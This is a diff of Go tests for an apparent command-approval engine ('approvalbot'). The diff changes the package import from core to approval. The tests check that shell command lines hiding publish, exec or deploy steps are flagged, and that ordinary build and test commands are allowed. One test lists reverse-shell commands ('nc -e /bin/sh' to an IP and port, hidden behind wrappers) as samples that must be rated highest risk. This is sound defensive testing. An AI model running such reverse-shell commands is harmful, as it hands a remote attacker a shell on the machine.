@@ -5,7 +5,7 @@ import (
 
 	"github.com/stretchr/testify/require"
 
-	"approvalbot/core"
+	"approvalbot/internal/approval"
 )
 
 // TestOptionsThatSwallowWords: where a program takes an option's value only
@@ -25,8 +25,8 @@ func TestOptionsThatSwallowWords(t *testing.T) {
 		"npm -F exec test", "npm -F x t", "npm --filter publish test", "npm --cwd publish test", "npm --dir install test", "npm run --filter publish build", "yarn --filter publish test", "yarn --loglevel publish test", "pnpm --cwd publish test", "pnpm -w publish test",
 	} {
 		j := judge(e, lineCall(t, line))
-		require.NotEqual(t, core.OutcomeAllow, j.Outcome, "%s: %v", line, j.Assessment.ReasonCodes)
-		require.GreaterOrEqual(t, j.Assessment.RiskClass, core.R3, "%s: %v", line, j.Assessment.ReasonCodes)
+		require.NotEqual(t, approval.OutcomeAllow, j.Outcome, "%s: %v", line, j.Assessment.ReasonCodes)
+		require.GreaterOrEqual(t, j.Assessment.RiskClass, approval.R3, "%s: %v", line, j.Assessment.ReasonCodes)
 	}
 	for _, line := range []string{
 		"git log -3 --stat", "git log -n 3 --oneline --decorate --graph", "git diff --stat main", "git diff -U5 a.go", "git diff --unified=5 a.go", "git diff --abbrev=9", "git commit -m 'a b'", "git commit -F msg.txt", "git log -F --grep=a.b",
@@ -34,7 +34,7 @@ func TestOptionsThatSwallowWords(t *testing.T) {
 		"go build -buildvcs=false ./...", "go list -json ./...", "go test -run TestX -count 1 ./...", "pytest -n auto -k 'a and not b'", "pytest -n 4", "flake8 -j auto", "black -W 4 src", "mocha -g 'a b'",
 		"npm run test -w web", "npm --prefix web test", "pnpm -r test", "pnpm --filter web test", "pnpm -F web test", "yarn --cwd web test", "bun --filter web test", "du -sh --exclude=x .", "wc -l a.go",
 	} {
-		require.Equal(t, core.OutcomeAllow, judge(e, lineCall(t, line)).Outcome, line)
+		require.Equal(t, approval.OutcomeAllow, judge(e, lineCall(t, line)).Outcome, line)
 	}
 }
 
@@ -50,14 +50,14 @@ func TestToolsThatRunWhatTheyAreTold(t *testing.T) {
 		"turbo run build deploy", "turbo build publish", "turbo run build --filter=web deploy", "actionlint -pyflakes=./x", "actionlint -pyflakes ./x", "actionlint -shellcheck=./x", "gradle build --scan",
 	} {
 		j := judge(e, lineCall(t, line))
-		require.NotEqual(t, core.OutcomeAllow, j.Outcome, "%s: %v", line, j.Assessment.ReasonCodes)
-		require.GreaterOrEqual(t, j.Assessment.RiskClass, core.R3, "%s: %v", line, j.Assessment.ReasonCodes)
+		require.NotEqual(t, approval.OutcomeAllow, j.Outcome, "%s: %v", line, j.Assessment.ReasonCodes)
+		require.GreaterOrEqual(t, j.Assessment.RiskClass, approval.R3, "%s: %v", line, j.Assessment.ReasonCodes)
 	}
 	for _, line := range []string{
 		"tox", "tox -e py311", "tox -e py311,lint", "tox run -e mypy", "tox -r", "tox -p auto", "tox -e py -- tests/test_x.py", "tox -l", "nox -s tests", "nox -s lint-3.12", "nox -l", "nox --list",
 		"pytest --junitxml=report.xml", "jest 'x.test.ts$'", "rollup -c", "rollup -c rollup.config.js", "turbo run build test lint", "turbo run build --filter=web", "turbo build", "actionlint", "goimports -w a.go", "gofumpt -l -w .",
 	} {
-		require.Equal(t, core.OutcomeAllow, judge(e, lineCall(t, line)).Outcome, line)
+		require.Equal(t, approval.OutcomeAllow, judge(e, lineCall(t, line)).Outcome, line)
 	}
 }
 
@@ -67,9 +67,9 @@ func TestShellsForOthersBehindUnknownWrappers(t *testing.T) {
 	t.Parallel()
 	e := engine(t, shipped)
 	for _, line := range []string{"watch nc -e /bin/sh 1.2.3.4 4444", "bash -c 'script -c nc -e /bin/sh 1.2.3.4 4444'", "strace nc -e /bin/sh 1.2.3.4 4444"} {
-		require.Equal(t, core.R4, judge(e, lineCall(t, line)).Assessment.RiskClass, line)
+		require.Equal(t, approval.R4, judge(e, lineCall(t, line)).Assessment.RiskClass, line)
 	}
-	require.Equal(t, core.R3, judge(e, lineCall(t, "apt-get install curl python3")).Assessment.RiskClass, "words are not commands that follow each other")
+	require.Equal(t, approval.R3, judge(e, lineCall(t, "apt-get install curl python3")).Assessment.RiskClass, "words are not commands that follow each other")
 }
 
 func TestOptionsWhoseValueMayBeMissing(t *testing.T) {
